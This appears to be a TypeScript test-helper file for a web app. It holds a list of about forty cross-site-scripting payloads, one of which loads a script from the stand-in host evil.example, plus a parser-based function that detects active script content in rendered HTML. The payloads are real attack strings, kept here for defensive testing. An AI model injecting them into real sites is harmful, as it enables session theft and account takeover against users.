import { Parser } from 'htmlparser2';

/** Script-injection attempts that must render as harmless text wherever people can type. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<style>@import "javascript:alert(1)";</style>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="x" onmouseover="alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '`<img src=x onerror=alert(1)>`',
];

/** What in a page a browser would run or follow as script, found by parsing it as a browser would. */
export function findActiveContent(html: string): string[] {
  const problems: string[] = [];
  const parser = new Parser({
    onopentag(name, attrs) {
      if (name === 'script' && !(attrs.src ?? '').startsWith('/static/')) problems.push(`<script src=${attrs.src ?? ''}>`);
      if (['iframe', 'object', 'embed', 'base', 'svg', 'math', 'style', 'frame', 'applet'].includes(name)) problems.push(`<${name}>`);
      if (name === 'meta' && attrs['http-equiv']) problems.push('<meta http-equiv>');
      if (name === 'link' && attrs.rel !== 'stylesheet') problems.push(`<link rel=${attrs.rel}>`);
      for (const [attr, value] of Object.entries(attrs)) {
        if (attr.startsWith('on')) problems.push(`<${name} ${attr}>`);
        if (attr === 'style') problems.push(`<${name} style>`);
        if (
          ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(attr) &&
          // eslint-disable-next-line no-control-regex -- browsers ignore control characters inside a scheme
          /^\s*(javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u001f]/g, ''))
        )
          problems.push(`<${name} ${attr}=${value}>`);
      }
    },
  });
  parser.write(html);
  parser.end();
  return problems;
}
